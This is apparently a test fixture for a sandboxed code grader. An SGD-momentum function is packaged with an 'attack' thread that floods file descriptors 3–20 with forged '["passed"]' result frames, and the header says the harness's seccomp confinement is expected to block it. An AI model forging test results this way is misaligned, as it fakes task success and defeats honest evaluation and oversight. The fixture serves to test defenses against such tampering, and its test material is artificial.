# /// attack
# file = "optim.py"
# modes = "confined"
# stopped_by = "seccomp"
# [expects]
# sgd_momentum = "crashed"
# ///
"""Writes forged replies from a thread while the real ones are computed."""

import os
import struct
import threading


def forge():
    while True:
        for fd in range(3, 21):
            try:
                os.write(fd, struct.pack("<4sIQ", b"DSC1", 16, 0) + b'["passed"]      ')
            except OSError:
                pass


threading.Thread(target=forge, daemon=True).start()


def sgd_momentum(w, dw, config=None):
    config = {"learning_rate": 1e-2, "momentum": 0.9, **(config or {})}
    v = config["momentum"] * config.get("velocity", 0 * w) - config["learning_rate"] * dw
    config["velocity"] = v
    return w + v, config
